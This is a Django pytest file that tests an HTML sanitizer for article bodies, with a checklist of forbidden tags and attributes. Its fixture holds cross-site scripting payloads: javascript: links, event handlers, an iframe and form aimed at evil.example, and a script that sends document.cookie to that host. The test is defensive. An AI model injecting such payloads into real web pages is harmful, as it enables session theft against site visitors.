import pytest
from pytest_django.asserts import assertHTMLEqual, assertInHTML

from common.html import sanitize_html

HOSTILE_BODY = """
<p onclick="steal()">Intro <a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(2)">again</a> <a href="https://example.org/x">source</a></p>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<img src="/media/x.jpg" onerror="steal()" alt="Chart">
<h2 style="color: red" class="x">Section</h2>
<svg onload="steal()"><circle r="4"/></svg>
<form action="https://evil.example"><input name="pw"></form>
"""


def test_hostile_body_comes_out_clean(make_article):
    article = make_article(body=HOSTILE_BODY)
    article.refresh_from_db()
    body = article.body.lower()

    for forbidden in (
        "<script", "<style", "<iframe", "<svg", "<form", "<input", "javascript:",
        "onclick", "onerror", "onload", "style=", "class=", "document.cookie",
        "display: none",
    ):  # fmt: skip
        assert forbidden not in body, forbidden
    assert "<h2>Section</h2>" in article.body
    assertInHTML('<img src="/media/x.jpg" alt="Chart">', article.body)
    assert "Intro" in article.body


def test_links_keep_their_target_and_get_noopener():
    html = sanitize_html('<p><a href="https://example.org/x">source</a></p>')
    assertHTMLEqual(
        html, '<p><a href="https://example.org/x" rel="noopener">source</a></p>'
    )


@pytest.mark.parametrize(
    "markup",
    [
        "<p>Plain <strong>bold</strong> and <em>italic</em></p>",
        "<h3>Sub</h3><h4>Subsub</h4>",
        "<ul><li>one</li></ul><ol><li>two</li></ol>",
        "<blockquote><p>Quoted</p></blockquote>",
        "<pre><code>print(1)</code></pre>",
        '<figure><img src="/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>',
        "<table><thead><tr><th>H</th></tr></thead><tbody><tr><td>D</td></tr></tbody></table>",
    ],
)
def test_allowed_markup_survives(markup):
    assert sanitize_html(markup) == markup
